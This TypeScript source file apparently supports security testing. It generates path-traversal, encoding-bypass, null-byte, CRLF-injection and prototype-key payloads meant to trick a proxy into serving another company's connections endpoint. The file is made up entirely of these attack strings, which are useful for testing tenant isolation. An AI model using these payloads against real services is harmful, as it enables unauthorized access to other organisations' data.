/** Ways to write a foreign company so that one party reads it and another does not. */

/**
 * Company segments: each names the foreign company, or a company that nobody has.
 *
 * @param owns what stands for the user's own company: `me`, and its id where it is known.
 */
export function companyVariants(foreign: string, owns: readonly string[]): readonly string[] {
  return [
    ...new Set([...spellingsAlone(foreign), ...owns.flatMap((own) => besideOwn(foreign, own))]),
  ];
}

function spellingsAlone(foreign: string): readonly string[] {
  const first = foreign.codePointAt(0)?.toString(16) ?? '30';
  const rest = foreign.slice(1);
  return [
    foreign.toUpperCase(),
    `%${first}${rest}`,
    `%25${first}${rest}`,
    `%2525${first}${rest}`,
    `{${foreign}}`,
    foreign.replaceAll('-', ''),
    foreign.replaceAll('-', '%2d'),
    foreign.replaceAll('-', '%E2%80%90'),
    foreign.replaceAll('-', '\u2010'),
    // Full width: a server that normalizes text (NFKC) turns these into plain characters.
    foreign.replaceAll('-', '%EF%BC%8D'),
    foreign.replace(/\d/, (digit) => encodeURIComponent(String.fromCodePoint(0xff10 + +digit))),
    `${foreign}%20`,
    `%20${foreign}`,
    `${foreign}%09`,
    `${foreign}%00`,
    `${foreign}\0`,
    `${foreign}.`,
    `${foreign};`,
    `./${foreign}`,
    `/${foreign}`,
    `%2F${foreign}`,
    `..%2Fcompanies%2F${foreign}`,
    `*`,
    `null`,
    `undefined`,
    `__proto__`,
    'a'.repeat(4000),
  ];
}

/** A proxy that checks only the beginning, the end or a line of the segment takes these for the user's own company. */
function besideOwn(foreign: string, own: string): readonly string[] {
  return [
    `${foreign}%00${own}`,
    `${foreign}%0a${own}`,
    `${own}%0a${foreign}`,
    `${foreign};id=${own}`,
    `${own};id=${foreign}`,
    `${own},${foreign}`,
    `${own}%2C${foreign}`,
    `${own}%2F..%2F${foreign}`,
    `${own}%2f%2e%2e%2f${foreign}`,
    `${own}%252F..%252F${foreign}`,
    `${own}%5C..%5C${foreign}`,
    `${own}\\..\\${foreign}`,
    `${own}/../${foreign}`,
    `${own}/%2e%2e/${foreign}`,
    `${own}/.%2e/${foreign}`,
    `${own}/..;/${foreign}`,
    `${own}/..%00/${foreign}`,
    `${own}%c0%af..%c0%af${foreign}`,
    `${own}%EF%BC%8F..%EF%BC%8F${foreign}`,
    `${own}/../../companies/${foreign}`,
    `${own}?/../${foreign}`,
    `${own}%3F/../${foreign}`,
    `${own}#/../${foreign}`,
    `${own}%23/../${foreign}`,
    `${own}%0d%0a${foreign}`,
  ];
}

/** Whole paths to the foreign company's connections. */
export function pathVariants(foreign: string, base: string): readonly string[] {
  const path = `companies/${foreign}/connections`;
  return [
    `/${path}/`,
    `/${path}//`,
    `/${path}/.`,
    `/${path}%20`,
    `/${path}.json`,
    `/${path};x=1`,
    `//${path}`,
    `/./${path}`,
    `/%2e/${path}`,
    `/\\${path}`,
    `\\${path.replaceAll('/', '\\')}`,
    `/COMPANIES/${foreign}/connections`,
    `/Companies/${foreign}/Connections`,
    `/companies;x/${foreign}/connections`,
    `/%63ompanies/${foreign}/connections`,
    `/companies%2F${foreign}%2Fconnections`,
    `/companies/${foreign}%2Fconnections`,
    `/companies/${foreign}//connections`,
    `/companies/${foreign}/connections%2F`,
    `/integrations/../${path}`,
    `/integrations/%2e%2e/${path}`,
    `/integrations/..;/${path}`,
    `/integrations/..%2F${path.replaceAll('/', '%2F')}`,
    `/integrations/../../${path}`,
    `/..${base}/${path}`,
    `/%2e%2e${base}/${path}`,
    `/../${path}`,
  ];
}

/** What to put where an id belongs, so that a proxy that pastes it into an address ends up elsewhere. */
export function escapes(target: string, ups: number): readonly string[] {
  const spell = (up: string, slash: string): string =>
    (up + slash).repeat(ups) + target.replaceAll('/', slash);
  return [
    spell('..', '/'),
    spell('..', '%2F'),
    spell('..', '%2f'),
    spell('%2e%2e', '%2F'),
    spell('%2E%2E', '/'),
    spell('..', '%252F'),
    spell('%252e%252e', '%252F'),
    spell('..', '%5C'),
    spell('..', '\\'),
    spell('..;', '/'),
    spell('..;', '%2F'),
    spell('%c0%ae%c0%ae', '%c0%af'),
    spell('%EF%BC%8E%EF%BC%8E', '%EF%BC%8F'),
    `${spell('..', '%2F')}%3F`,
    `${spell('..', '%2F')}%23`,
    `${spell('..', '%2F')}%00`,
    `x%2F${spell('..', '%2F')}`,
    `x%00%2F${spell('..', '%2F')}`,
  ];
}
